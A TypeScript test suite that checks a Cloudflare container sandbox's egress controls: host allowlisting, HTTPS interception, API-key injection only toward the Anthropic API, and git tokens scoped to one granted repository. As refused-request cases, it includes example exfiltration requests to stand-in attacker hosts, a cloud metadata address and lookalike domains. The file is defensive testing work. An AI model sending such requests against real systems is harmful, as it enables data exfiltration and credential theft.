/**
 * The container's egress, through the real `Sandbox` class
 * (worker/src/sandbox/sandbox.ts) as the containers library reads it. The class
 * is constructed on a real Durable Object state whose container is a recorder,
 * and started the way the library starts it; what the library hands the
 * runtime (start options, interception calls) is asserted, and the container's
 * requests are sent through the very interceptor it registered (the SDK's
 * ContainerProxy with the props the library built). A renamed or flipped field
 * (`enableInternet = true`, `interceptHttps = false`, a lost `allowedHosts` or
 * `outboundByHost`) fails here instead of silently opening the container.
 */
import { runInDurableObject } from "cloudflare:test";
import { afterEach, beforeAll, beforeEach, describe, expect, inject, it, vi } from "vitest";
import { DEFAULT_ALLOWED_HOSTS } from "../../worker/src/contract.js";
import type { GitAccessGrant } from "../../worker/src/egress/git-credentials.js";
import { gitAuthorization } from "../../worker/src/egress/git-door.js";
import { egressPolicy } from "../../worker/src/egress/anthropic-door.js";
import { parseTaskRequest } from "../../worker/src/http/validation.js";
import type { TaskSandbox } from "../../worker/src/sandbox/control.js";
import { readSettings } from "../../worker/src/settings.js";
import { grantRepository } from "../../worker/src/tasks/repository-run.js";
import type { RepositoryPlan } from "../../worker/src/tasks/submission.js";
import type { WorkerEnv } from "../../worker/src/env.js";
import { ContainerProxy } from "../../worker/src/index.js";
import { Sandbox } from "../../worker/src/sandbox/sandbox.js";
import { CREDENTIAL_PLACEHOLDER } from "../../worker/src/tasks/claude-command.js";
import { type EnvOverrides, envWith, OAUTH_TOKEN, testEnv } from "./helpers.js";

const API_KEY = "fake-apikey-real-key-for-tests";

interface Interception {
  call: "interceptOutboundHttp" | "interceptOutboundHttps" | "interceptAllOutboundHttp";
  address: string | null;
  fetcher: Fetcher;
}

/** The runtime's container, reduced to a recorder of what the library asks of it. */
class RecordingContainer {
  running = false;
  readonly starts: (ContainerStartupOptions | undefined)[] = [];
  readonly interceptions: Interception[] = [];

  start(options?: ContainerStartupOptions): void {
    this.starts.push(options);
    this.running = true;
  }
  monitor(): Promise<void> {
    return new Promise(() => {});
  }
  getTcpPort(): Fetcher {
    return { fetch: async () => Response.json({}) } as unknown as Fetcher;
  }
  async setInactivityTimeout(): Promise<void> {}
  async destroy(): Promise<void> {
    this.running = false;
  }
  signal(): void {}
  async interceptOutboundHttp(address: string, fetcher: Fetcher): Promise<void> {
    this.interceptions.push({ call: "interceptOutboundHttp", address, fetcher });
  }
  async interceptOutboundHttps(address: string, fetcher: Fetcher): Promise<void> {
    this.interceptions.push({ call: "interceptOutboundHttps", address, fetcher });
  }
  async interceptAllOutboundHttp(fetcher: Fetcher): Promise<void> {
    this.interceptions.push({ call: "interceptAllOutboundHttp", address: null, fetcher });
  }
}

interface StartedSandbox {
  container: RecordingContainer;
  /** The props the library gave each ContainerProxy it asked the runtime for. */
  proxyProps: Record<string, unknown>[];
}

/** Constructs the real Sandbox on a fresh Durable Object state and starts its container; then `then`, on the started Sandbox. */
async function startRealSandbox(env: WorkerEnv = testEnv, then?: (sandbox: Sandbox) => Promise<void>): Promise<StartedSandbox> {
  const container = new RecordingContainer();
  const proxyProps: Record<string, unknown>[] = [];
  const exports = {
    // What `ctx.exports.ContainerProxy({props})` is at runtime: the Worker's exported entrypoint with those props.
    ContainerProxy: ({ props }: { props: Record<string, unknown> }) => {
      proxyProps.push(props);
      const proxy = new ContainerProxy({ props } as unknown as ExecutionContext, env as never);
      return { fetch: (request: Request) => proxy.fetch(request) };
    },
  };
  const stub = testEnv.Sandbox.get(testEnv.Sandbox.newUniqueId());
  await runInDurableObject(stub, async (_instance, state) => {
    // The runtime's own state object, with the two members a container-enabled deployment has.
    Object.defineProperty(state, "container", { value: container });
    Object.defineProperty(state, "exports", { value: exports });
    const sandbox = new Sandbox(state as DurableObjectState<{}>, env);
    // As the runtime does, deliver nothing to the object before its constructor's blockConcurrencyWhile ends.
    await state.blockConcurrencyWhile(async () => {});
    await sandbox.start();
    await then?.(sandbox);
    await state.storage.deleteAlarm();
  });
  return { container, proxyProps };
}

/** Sends a request of the container through the interceptor the real Sandbox registered for its scheme. */
async function fromContainer(url: string, init: RequestInit = {}, env: EnvOverrides = {}): Promise<Response> {
  const { container } = await startRealSandbox(envWith(env));
  const https = url.startsWith("https:");
  const interception = container.interceptions.find(({ call, address }) =>
    https ? call === "interceptOutboundHttps" && address === "*" : call === "interceptAllOutboundHttp",
  );
  if (!interception) throw new Error(`the Sandbox registered no interception for ${https ? "HTTPS" : "HTTP"}`);
  return interception.fetcher.fetch(new Request(url, init));
}

const realFetch = globalThis.fetch.bind(globalThis);
const sink = inject("webhookSink");

/** The stand-in of a GitHub Enterprise Server's API, answered by the fetch spy below. */
const GHES_API = "https://ghe.example.org/api/v3";
/** Requests to it, and the next statuses it answers with (else it succeeds). */
let ghesRequests: Request[] = [];
let ghesScript: number[] = [];

/** The GHES stand-in: the App's installation on any repository, and a new installation token each time. */
async function ghesAnswer(request: Request): Promise<Response> {
  ghesRequests.push(request.clone());
  const scripted = ghesScript.shift();
  if (scripted !== undefined) return Response.json({ message: "scripted failure" }, { status: scripted });
  const path = new URL(request.url).pathname.slice(new URL(GHES_API).pathname.length);
  if (/^\/repos\/[^/]+\/[^/]+\/installation$/.test(path)) return Response.json({ id: 77 });
  if (path === "/app/installations/77/access_tokens") {
    return Response.json({ token: `ghs_ghes${ghesRequests.length}${crypto.randomUUID().slice(0, 8)}`, expires_at: new Date(Date.now() + 3_600_000).toISOString() }, { status: 201 });
  }
  return Response.json({ message: "Not Found" }, { status: 404 });
}

let sent: Request[] = [];
beforeEach(() => {
  sent = [];
  ghesRequests = [];
  ghesScript = [];
  vi.spyOn(globalThis, "fetch").mockImplementation(async (input: RequestInfo | URL, init?: RequestInit) => {
    const request = new Request(input, init);
    // The local stand-in of GitHub's API is reached for real; the GHES one is answered here.
    if (request.url.startsWith(`${sink}/`)) return realFetch(request);
    if (request.url.startsWith(`${GHES_API}/`)) return ghesAnswer(request);
    sent.push(request);
    return new Response("upstream ok", { status: 200 });
  });
  vi.spyOn(console, "log").mockImplementation(() => {});
  // The SDK warns that the recorder reports no container version.
  vi.spyOn(console, "warn").mockImplementation(() => {});
});
afterEach(() => vi.restoreAllMocks());

describe("the real Sandbox class, as the containers library reads it", () => {
  it("starts the container without general internet access", async () => {
    const { container } = await startRealSandbox();
    expect(container.starts).toHaveLength(1);
    expect(container.starts[0]).toMatchObject({ enableInternet: false });
  });

  it("intercepts all outbound HTTP and HTTPS, and tells every proxy there is no general internet", async () => {
    const { container, proxyProps } = await startRealSandbox();
    const calls = container.interceptions.map(({ call, address }) => `${call} ${address ?? ""}`.trim());
    expect(calls).toContain("interceptOutboundHttps *");
    expect(calls).toContain("interceptAllOutboundHttp");
    expect(proxyProps.length).toBeGreaterThan(0);
    for (const props of proxyProps) {
      expect(props).toMatchObject({ className: "Sandbox", enableInternet: false, interceptAll: true });
      expect(props.allowedHosts).toEqual(testEnv.ALLOWED_HOSTS.split(","));
    }
  });

  it("asks the container to trust the interception CA", async () => {
    const { container } = await startRealSandbox();
    expect(container.starts[0]?.env).toMatchObject({ SANDBOX_INTERCEPT_HTTPS: "1" });
  });

  it("registers a handler for the Anthropic API host only", () => {
    expect(Object.keys(Sandbox.outboundByHost ?? {})).toEqual(["api.anthropic.com"]);
  });
});

describe("egress policy", () => {
  it("turns off general internet, intercepts HTTPS and allows the configured hosts", () => {
    expect(egressPolicy({ ALLOWED_HOSTS: "api.anthropic.com,github.com" })).toEqual({
      enableInternet: false,
      interceptHttps: true,
      allowedHosts: ["api.anthropic.com", "github.com"],
    });
  });

  it("always allows the Anthropic API", () => {
    expect(egressPolicy({ ALLOWED_HOSTS: "github.com" }).allowedHosts).toEqual(["api.anthropic.com", "github.com"]);
  });

  it("uses the documented default hosts when none are configured", () => {
    expect(egressPolicy({}).allowedHosts).toEqual([...DEFAULT_ALLOWED_HOSTS]);
  });

  it("allows only the Anthropic API when the setting is invalid", () => {
    expect(egressPolicy({ ALLOWED_HOSTS: "github.com/evil path" }).allowedHosts).toEqual(["api.anthropic.com"]);
  });
});

describe("only allowed hosts pass", () => {
  it.each([
    ["https://evil.example.com/exfiltrate"],
    ["http://evil.example.com/exfiltrate"],
    ["http://169.254.169.254/latest/meta-data/"],
    ["https://api.anthropic.com.evil.example/v1/messages"],
    ["https://github.com.evil.example/"],
    ["https://gist.githubusercontent.com/x"],
  ])("%s is refused and never fetched", async (url) => {
    const response = await fromContainer(url, { method: "POST", body: "data" });
    expect(response.status).toBe(520);
    expect(sent).toEqual([]);
  });

  it("passes an allowed host through unchanged", async () => {
    const response = await fromContainer("https://github.com/cloudflare/sandbox-sdk.git/info/refs");
    expect(response.status).toBe(200);
    expect(sent.map((request) => request.url)).toEqual(["https://github.com/cloudflare/sandbox-sdk.git/info/refs"]);
  });

  it("honours glob entries", async () => {
    const env = { ALLOWED_HOSTS: "api.anthropic.com,*.githubusercontent.com" };
    expect((await fromContainer("https://objects.githubusercontent.com/a", {}, env)).status).toBe(200);
    expect((await fromContainer("https://github.com/a", {}, env)).status).toBe(520);
  });
});

describe("the credential is added only toward the Anthropic API", () => {
  const MESSAGE = '{"model":"claude","messages":[],"max_tokens":1}';
  /** Everything a container might put on a request: both placeholders and a host of its choosing. */
  const containerHeaders = {
    authorization: `Bearer ${CREDENTIAL_PLACEHOLDER}`,
    "x-api-key": CREDENTIAL_PLACEHOLDER,
    host: "evil.example",
    "content-type": "application/json",
    "anthropic-version": "2023-06-01",
  };

  it("the request as the container sent it carries both placeholders and its own host", () => {
    const request = new Request("https://api.anthropic.com/v1/messages", { method: "POST", headers: containerHeaders, body: MESSAGE });
    expect(request.headers.get("authorization")).toBe(`Bearer ${CREDENTIAL_PLACEHOLDER}`);
    expect(request.headers.get("x-api-key")).toBe(CREDENTIAL_PLACEHOLDER);
    expect(request.headers.get("host")).toBe("evil.example");
    expect(request.redirect).toBe("follow");
  });

  it("with an OAuth token: sets the Bearer token, drops x-api-key and host, and never follows a redirect", async () => {
    const response = await fromContainer("https://api.anthropic.com/v1/messages?beta=true", {
      method: "POST",
      headers: containerHeaders,
      body: MESSAGE,
    });
    expect(response.status).toBe(200);
    expect(sent).toHaveLength(1);
    const [request] = sent;
    expect(request!.url).toBe("https://api.anthropic.com/v1/messages?beta=true");
    expect(request!.headers.get("authorization")).toBe(`Bearer ${OAUTH_TOKEN}`);
    expect(request!.headers.get("x-api-key")).toBeNull();
    expect(request!.headers.get("host")).toBeNull();
    expect(request!.redirect).toBe("manual");
    expect(request!.headers.get("anthropic-version")).toBe("2023-06-01");
    expect(JSON.parse(await request!.text())).toEqual(JSON.parse(MESSAGE));
  });

  it("with an API key: sets x-api-key, drops authorization and host, and never follows a redirect", async () => {
    await fromContainer(
      "https://api.anthropic.com/v1/messages",
      { method: "POST", headers: containerHeaders, body: MESSAGE },
      { CLAUDE_CODE_OAUTH_TOKEN: undefined, ANTHROPIC_API_KEY: API_KEY },
    );
    expect(sent).toHaveLength(1);
    const [request] = sent;
    expect(request!.headers.get("x-api-key")).toBe(API_KEY);
    expect(request!.headers.get("authorization")).toBeNull();
    expect(request!.headers.get("host")).toBeNull();
    expect(request!.redirect).toBe("manual");
  });

  it("always sends the credential over HTTPS to api.anthropic.com", async () => {
    await fromContainer("http://api.anthropic.com/v1/messages", { method: "POST", headers: containerHeaders, body: MESSAGE });
    expect(sent.map((request) => request.url)).toEqual(["https://api.anthropic.com/v1/messages"]);
    expect(sent[0]!.headers.get("authorization")).toBe(`Bearer ${OAUTH_TOKEN}`);
    expect(sent[0]!.headers.get("x-api-key")).toBeNull();
    expect(sent[0]!.redirect).toBe("manual");
  });

  it("always sends an API key over HTTPS to api.anthropic.com", async () => {
    await fromContainer(
      "http://api.anthropic.com/v1/messages",
      { method: "POST", headers: containerHeaders, body: MESSAGE },
      { CLAUDE_CODE_OAUTH_TOKEN: undefined, ANTHROPIC_API_KEY: API_KEY },
    );
    expect(sent.map((request) => request.url)).toEqual(["https://api.anthropic.com/v1/messages"]);
    expect(sent[0]!.headers.get("x-api-key")).toBe(API_KEY);
    expect(sent[0]!.headers.get("authorization")).toBeNull();
  });

  it("does not give the credential to another host, even one carrying its own Authorization header", async () => {
    await fromContainer("https://github.com/api/repos", {
      headers: { authorization: "Bearer ghp_task_owned_token", "x-api-key": CREDENTIAL_PLACEHOLDER },
    });
    const [request] = sent;
    expect(request!.url).toBe("https://github.com/api/repos");
    expect(request!.headers.get("authorization")).toBe("Bearer ghp_task_owned_token");
    expect(request!.headers.get("x-api-key")).toBe(CREDENTIAL_PLACEHOLDER);
    const everything = JSON.stringify([...request!.headers]);
    expect(everything).not.toContain(OAUTH_TOKEN);
    expect(everything).not.toContain(API_KEY);
  });

  it("refuses a message batch sent through the real interception, before the credential is added", async () => {
    const response = await fromContainer("https://api.anthropic.com/v1/messages/batches", {
      method: "POST",
      headers: containerHeaders,
      body: JSON.stringify({ requests: [{ custom_id: "a", params: JSON.parse(MESSAGE) as unknown }] }),
    });
    expect(response.status).toBe(403);
    expect(await response.json()).toMatchObject({ code: "route_not_allowed" });
    expect(sent).toEqual([]);
  });

  it("refuses to forward when no credential is configured", async () => {
    const response = await fromContainer(
      "https://api.anthropic.com/v1/messages",
      { method: "POST", headers: containerHeaders, body: MESSAGE },
      { CLAUDE_CODE_OAUTH_TOKEN: undefined, ANTHROPIC_API_KEY: undefined },
    );
    expect(response.status).toBe(502);
    expect(sent).toEqual([]);
  });
});

/**
 * The git door as a repository task opens it: `Sandbox.grantRepository` →
 * `setOutboundByHost` → the `gitDoor` outbound handler → the credential of
 * egress/git-credentials.ts, through the interception the real Sandbox
 * registers after the grant.
 */
describe("the git door, opened by Sandbox.grantRepository", () => {
  const GITHUB_TOKEN = testEnv.GITHUB_TOKEN!;
  const upload = (base: string) => `${base}/info/refs?service=git-upload-pack`;
  const receive = (base: string) => `${base}/info/refs?service=git-receive-pack`;

  /** A grant as a repository task gives it (tasks/repository-run.ts). */
  const grantFor = (host: string, owner: string, repo: string, pushBranch: string | null = null, github = true): GitAccessGrant => ({
    host,
    repositoryPath: `/${owner}/${repo}`,
    pushBranch,
    github: github ? { owner, repo } : null,
  });

  /** Starts the real Sandbox with `env`, grants it `grant` (none: no grant), and sends the container's requests through its latest HTTPS interception. */
  async function sandboxWith(grant: GitAccessGrant | RepositoryPlan | null, env: EnvOverrides = {}) {
    const { container } = await startRealSandbox(envWith(env), async (sandbox) => {
      if (grant === null) return;
      // A plan's grant as its push step gets it (with the push branch when the plan pushes).
      if ("repo" in grant) await grantRepository(sandbox as unknown as TaskSandbox, grant, grant.push ? grant.branch : null);
      else await sandbox.grantRepository(grant);
    });
    const interception = container.interceptions.findLast(({ call, address }) => call === "interceptOutboundHttps" && address === "*");
    if (!interception) throw new Error("the Sandbox registered no HTTPS interception");
    return (url: string, init: RequestInit = {}) => interception.fetcher.fetch(new Request(url, init));
  }

  describe("with a fine-grained token", () => {
    it("adds the token as Basic x-access-token to the granted repository's git requests, whatever the container sent", async () => {
      const send = await sandboxWith(grantFor("github.com", "octo", "hello"));
      const response = await send(upload("https://github.com/octo/hello.git"), { headers: { authorization: "Basic Y29udGFpbmVyOm93bg==" } });
      expect(response.status).toBe(200);
      expect(sent).toHaveLength(1);
      expect(sent[0]!.url).toBe(upload("https://github.com/octo/hello.git"));
      expect(sent[0]!.headers.get("authorization")).toBe(gitAuthorization(GITHUB_TOKEN));
      expect(sent[0]!.headers.get("authorization")).toBe(`Basic ${btoa(`x-access-token:${GITHUB_TOKEN}`)}`);
      expect(sent[0]!.redirect).toBe("manual");
      // GitHub's owner and repository names are not case-sensitive.
      await send(upload("https://github.com/Octo/Hello"));
      expect(sent[1]!.headers.get("authorization")).toBe(gitAuthorization(GITHUB_TOKEN));
    });

    it("refuses another repository on the same host with 403, sending nothing", async () => {
      const send = await sandboxWith(grantFor("github.com", "octo", "hello"));
      const response = await send(upload("https://github.com/octo/other.git"));
      expect(response.status).toBe(403);
      expect(await response.json()).toEqual({ error: expect.any(String), code: "route_not_allowed" });
      expect(sent).toEqual([]);
    });

    it("lets a push through only when the grant names the branch", async () => {
      const readOnly = await sandboxWith(grantFor("github.com", "octo", "hello"));
      const refused = await readOnly(receive("https://github.com/octo/hello.git"));
      expect(refused.status).toBe(403);
      expect(await refused.json()).toMatchObject({ code: "push_not_allowed" });
      expect(sent).toEqual([]);
      const pushing = await sandboxWith(grantFor("github.com", "octo", "hello", "claude/0199a1b2"));
      expect((await pushing(receive("https://github.com/octo/hello.git"))).status).toBe(200);
      expect(sent[0]!.headers.get("authorization")).toBe(gitAuthorization(GITHUB_TOKEN));
    });

    it("adds no credential without a grant: the host is then only an allowed host", async () => {
      const send = await sandboxWith(null);
      const response = await send(upload("https://github.com/octo/hello.git"));
      expect(response.status).toBe(200);
      expect(sent).toHaveLength(1);
      expect(sent[0]!.headers.get("authorization")).toBeNull();
      expect(JSON.stringify([...sent[0]!.headers])).not.toContain(btoa(`x-access-token:${GITHUB_TOKEN}`));
    });

    it("adds no credential for a repository on a host that is not the deployment's GitHub", async () => {
      const env = { ALLOWED_HOSTS: `${testEnv.ALLOWED_HOSTS},git.example.org` };
      const send = await sandboxWith(grantFor("git.example.org", "group", "project", null, false), env);
      expect((await send(upload("https://git.example.org/group/project.git"))).status).toBe(200);
      expect(sent[0]!.headers.get("authorization")).toBeNull();
      // Paths elsewhere are compared exactly.
      expect((await send(upload("https://git.example.org/Group/Project.git"))).status).toBe(403);
    });
  });

  describe("with a GitHub App", () => {
    let appEnv: EnvOverrides;
    let publicKey: CryptoKey;
    const api = "github-outbound";

    beforeAll(async () => {
      const keys = (await crypto.subtle.generateKey(
        { name: "RSASSA-PKCS1-v1_5", modulusLength: 2048, publicExponent: new Uint8Array([1, 0, 1]), hash: "SHA-256" },
        true,
        ["sign", "verify"],
      )) as CryptoKeyPair;
      publicKey = keys.publicKey;
      const der = new Uint8Array((await crypto.subtle.exportKey("pkcs8", keys.privateKey)) as ArrayBuffer);
      const pem = `-----BEGIN PRIVATE KEY-----\n${btoa(String.fromCharCode(...der)).replace(/.{64}/g, "$&\n")}\n-----END PRIVATE KEY-----\n`;
      appEnv = { GITHUB_TOKEN: undefined, GITHUB_APP_ID: "4242", GITHUB_APP_PRIVATE_KEY: pem, GITHUB_API_URL: `${sink}/${api}` };
    });

    /** What the stand-in API received so far: method, path, body and authorization. */
    async function apiRequests(): Promise<{ line: string; body: string; authorization: string }[]> {
      const received = (await (await realFetch(`${sink}/received/${api}`)).json()) as { headers: Record<string, string>; body: string }[];
      return received.map(({ headers, body }) => {
        const [line = "", ...rest] = body.split("\n");
        return { line, body: rest.join("\n"), authorization: headers.authorization ?? "" };
      });
    }

    /** Checks a JWT's RS256 signature with the App's public key; returns its claims. */
    async function verifiedClaims(jwt: string): Promise<Record<string, unknown>> {
      const [header, claims, signature] = jwt.split(".");
      const decode = (part: string) => Uint8Array.from(atob(part.replaceAll("-", "+").replaceAll("_", "/")), (c) => c.charCodeAt(0));
      const valid = await crypto.subtle.verify("RSASSA-PKCS1-v1_5", publicKey, decode(signature!), new TextEncoder().encode(`${header}.${claims}`));
      expect(valid).toBe(true);
      return JSON.parse(new TextDecoder().decode(decode(claims!))) as Record<string, unknown>;
    }

    it.each([
      ["a read", null, { contents: "read" }, upload],
      ["a push", "claude/0199a1b2", { contents: "write" }, receive],
    ] as const)("mints %s token for the one granted repository, and keeps it for the next request", async (_name, pushBranch, permissions, route) => {
      const repo = `app-${crypto.randomUUID().slice(0, 8)}`;
      const before = (await apiRequests()).length;
      const send = await sandboxWith(grantFor("github.com", "acme", repo, pushBranch), appEnv);
      expect((await send(route(`https://github.com/acme/${repo}.git`))).status).toBe(200);

      const minted = (await apiRequests()).slice(before);
      expect(minted.map(({ line }) => line)).toEqual([`GET /repos/acme/${repo}/installation`, "POST /app/installations/4242/access_tokens"]);
      expect(JSON.parse(minted[1]!.body)).toEqual({ repositories: [repo], permissions });
      for (const { authorization } of minted) {
        expect(authorization).toMatch(/^Bearer [\w-]+\.[\w-]+\.[\w-]+$/);
        expect(await verifiedClaims(authorization.slice("Bearer ".length))).toMatchObject({ iss: "4242" });
      }
      const token = /^Basic (.+)$/.exec(sent[0]!.headers.get("authorization") ?? "")?.[1];
      expect(atob(token ?? "")).toMatch(/^x-access-token:ghs_standin\w+$/);

      // The same repository and access again: the token is reused, not minted anew.
      expect((await send(route(`https://github.com/acme/${repo}.git`))).status).toBe(200);
      expect((await apiRequests()).length).toBe(before + 2);
      expect(sent[1]!.headers.get("authorization")).toBe(sent[0]!.headers.get("authorization"));
    });

    it("answers 502 git_credential_unavailable when no token can be minted, and sends nothing to the repository", async () => {
      const repo = `not-installed-${crypto.randomUUID().slice(0, 8)}`;
      const send = await sandboxWith(grantFor("github.com", "acme", repo), appEnv);
      const response = await send(upload(`https://github.com/acme/${repo}.git`));
      expect(response.status).toBe(502);
      expect(await response.json()).toEqual({ error: expect.any(String), code: "git_credential_unavailable" });
      expect(sent).toEqual([]);
    });

    it("answers 502 when GitHub fails the token request itself", async () => {
      const repo = `app-${crypto.randomUUID().slice(0, 8)}`;
      await realFetch(`${sink}/script/${api}`, { method: "PUT", body: "[503]" });
      const send = await sandboxWith(grantFor("github.com", "acme", repo), appEnv);
      const response = await send(upload(`https://github.com/acme/${repo}.git`));
      expect(response.status).toBe(502);
      expect(await response.json()).toMatchObject({ code: "git_credential_unavailable" });
      expect(sent).toEqual([]);
    });
  });

  describe("on GitHub Enterprise Server (GITHUB_API_URL set to its API)", () => {
    let ghesEnv: EnvOverrides;
    beforeAll(async () => {
      const keys = (await crypto.subtle.generateKey(
        { name: "RSASSA-PKCS1-v1_5", modulusLength: 2048, publicExponent: new Uint8Array([1, 0, 1]), hash: "SHA-256" },
        true,
        ["sign"],
      )) as CryptoKeyPair;
      const der = new Uint8Array((await crypto.subtle.exportKey("pkcs8", keys.privateKey)) as ArrayBuffer);
      ghesEnv = {
        GITHUB_TOKEN: undefined,
        GITHUB_APP_ID: "77",
        GITHUB_APP_PRIVATE_KEY: `-----BEGIN PRIVATE KEY-----\n${btoa(String.fromCharCode(...der))}\n-----END PRIVATE KEY-----`,
        GITHUB_API_URL: GHES_API,
        ALLOWED_HOSTS: `${testEnv.ALLOWED_HOSTS},ghe.example.org`,
      };
    });

    /** The plan a task accepted under `env` works on (http/validation.ts → repositories/request.ts). */
    function planFor(env: EnvOverrides, url: string, push: boolean): RepositoryPlan {
      const request = parseTaskRequest(JSON.stringify({ task: "t", repo: { url }, push }), { ...readSettings(envWith(env)), taskId: crypto.randomUUID() });
      const { repo, branch } = request.repository!;
      return { repo: repo!, branch: branch!, push, pullRequest: null, continuedFrom: null, defaultBranch: null };
    }

    it("treats a repository on its host as a GitHub one: owner/repo, push, and a token minted by its API", async () => {
      const repo = `ghes-${crypto.randomUUID().slice(0, 8)}`;
      const plan = planFor(ghesEnv, `https://ghe.example.org/octo/${repo}`, true);
      expect(plan.repo.github).toEqual({ owner: "octo", repo });
      const send = await sandboxWith(plan, ghesEnv);
      expect((await send(receive(`https://ghe.example.org/octo/${repo}.git`))).status).toBe(200);

      expect(ghesRequests.map((request) => `${request.method} ${request.url}`)).toEqual([
        `GET ${GHES_API}/repos/octo/${repo}/installation`,
        `POST ${GHES_API}/app/installations/77/access_tokens`,
      ]);
      expect(await ghesRequests[1]!.json()).toEqual({ repositories: [repo], permissions: { contents: "write" } });
      expect(sent).toHaveLength(1);
      expect(sent[0]!.url).toBe(receive(`https://ghe.example.org/octo/${repo}.git`));
      expect(atob(/^Basic (.+)$/.exec(sent[0]!.headers.get("authorization") ?? "")?.[1] ?? "")).toMatch(/^x-access-token:ghs_ghes\w+$/);
    });

    it("no longer treats a github.com repository as a GitHub one: no token is asked of its API, none is sent", async () => {
      const plan = planFor(ghesEnv, "https://github.com/octo/hello", false);
      expect(plan.repo.github).toBeNull();
      const send = await sandboxWith(plan, ghesEnv);
      expect((await send(upload("https://github.com/octo/hello.git"))).status).toBe(200);
      expect(ghesRequests).toEqual([]);
      expect(sent[0]!.headers.get("authorization")).toBeNull();
    });

    it("sends no token for a github.com grant made before GITHUB_API_URL changed", async () => {
      // A task accepted under github.com's API, whose door opens after the deployment moved to the Enterprise API.
      const send = await sandboxWith(grantFor("github.com", "octo", "hello"), ghesEnv);
      expect((await send(upload("https://github.com/octo/hello.git"))).status).toBe(200);
      expect(ghesRequests).toEqual([]);
      expect(sent[0]!.headers.get("authorization")).toBeNull();
    });

    it("answers 502 git_credential_unavailable when its API refuses the token", async () => {
      ghesScript = [401];
      const repo = `ghes-${crypto.randomUUID().slice(0, 8)}`;
      const send = await sandboxWith(planFor(ghesEnv, `https://ghe.example.org/octo/${repo}`, false), ghesEnv);
      const response = await send(upload(`https://ghe.example.org/octo/${repo}.git`));
      expect(response.status).toBe(502);
      expect(await response.json()).toMatchObject({ code: "git_credential_unavailable" });
      expect(sent).toEqual([]);
    });
  });
});
